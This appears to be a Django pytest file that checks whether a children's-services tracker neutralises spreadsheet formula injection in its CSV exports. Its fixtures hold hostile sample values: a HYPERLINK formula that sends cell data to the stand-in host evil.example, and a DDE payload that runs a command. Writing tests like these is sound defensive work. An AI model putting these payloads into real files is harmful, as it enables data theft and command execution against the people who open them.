"""Every CSV the service writes is safe to open in a spreadsheet: text that would run as a
formula (it begins with = + - @, a tab or a carriage return) is written with a leading
apostrophe, so Excel and LibreOffice show it as text (issue 11)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.core.management import call_command
from django.utils import timezone

from permanence.roles import Role
from permanence.services import system_user
from tests.factories.permanence import ChildFactory, EpisodeFactory, TeamFactory, UserFactory
from tests.factories.reviews import IroAllocationFactory
from tracker import services
from tracker.exports import csv_writer, neutralise

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("Ava Stone", "Ava Stone"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_text_that_would_run_as_a_formula_is_neutralised(value, written):
    assert neutralise(value) == written


@pytest.mark.parametrize("value", [-3, 0, 2.5, dt.date(2026, 1, 5), None, True])
def test_numbers_and_dates_the_service_writes_are_left_as_they_are(value):
    assert neutralise(value) is value


def test_the_writer_neutralises_every_cell_and_writes_numbers_as_numbers():
    out = io.StringIO()
    csv_writer(out).writerow(["=cmd|' /C calc'!A0", -3, "Ava"])
    assert out.getvalue() == "'=cmd|' /C calc'!A0,-3,Ava\r\n"


@pytest.fixture
def hostile(team, iro):
    """A looked-after child whose names, worker and team were typed by an attacker."""
    hostile_team = TeamFactory(name="+team", service=team.service)
    worker = UserFactory(username="-2+3", team=hostile_team, role=Role.SOCIAL_WORKER)
    manager = UserFactory(username="@manager", team=hostile_team, role=Role.TEAM_MANAGER)
    child = ChildFactory(
        team=hostile_team,
        social_worker=worker,
        iro=iro,
        first_name=FORMULA,
        last_name="@SUM(1+1)*cmd|' /C calc'!A0",
        child_id="H1",
    )
    since = timezone.localdate() - dt.timedelta(days=30)
    EpisodeFactory(child=child, decom=since)
    IroAllocationFactory(child=child, iro=iro, allocated_on=since)
    services.deadlines_sweep(by=system_user())
    return {"child": child, "worker": worker, "manager": manager}


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def _no_formula_cells(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (cell, row)


def test_the_dashboard_export_neutralises_names(client, hostile, head_of_service):
    client.force_login(head_of_service)
    rows = _rows(client.get("/tracker/dashboard/export.csv"))
    header, *lines = rows
    line = next(r for r in lines if r[header.index("child_id")] == "H1")
    assert line[header.index("first_name")] == "'" + FORMULA
    assert line[header.index("last_name")] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert line[header.index("team")] == "'+team"
    _no_formula_cells(rows)


def test_the_deadlines_download_neutralises_owners(client, hostile):
    client.force_login(hostile["manager"])
    rows = _rows(client.get("/tracker/deadlines/export.csv"))
    header, *lines = rows
    owners = {r[header.index("owner")] for r in lines}
    assert "'@manager" in owners
    _no_formula_cells(rows)


def test_the_deadlines_command_neutralises_owners(hostile, capsys):
    call_command("export_deadlines")
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    header, *lines = rows
    assert "'@manager" in {r[header.index("owner")] for r in lines}
    _no_formula_cells(rows)


def test_the_ssda903_return_neutralises_free_text_and_keeps_valid_values(hostile):
    from tracker.ssda903 import writer
    from tracker.ssda903.tables import EPISODES, HEADER

    episode = hostile["child"].episodes.get()
    episode.home_post = "=1+2"
    episode.save()
    text = writer.table_csv(EPISODES, [writer.episode_row(episode, year=_year())])
    assert ",'=1+2," in text
    header = writer.table_csv(HEADER, [writer.header_row(hostile["child"])])
    assert header.splitlines()[1].startswith("H1,")


def _year():
    from tracker.ssda903.tables import CollectionYear

    today = timezone.localdate()
    return CollectionYear(today.year + 1 if today.month >= 4 else today.year)
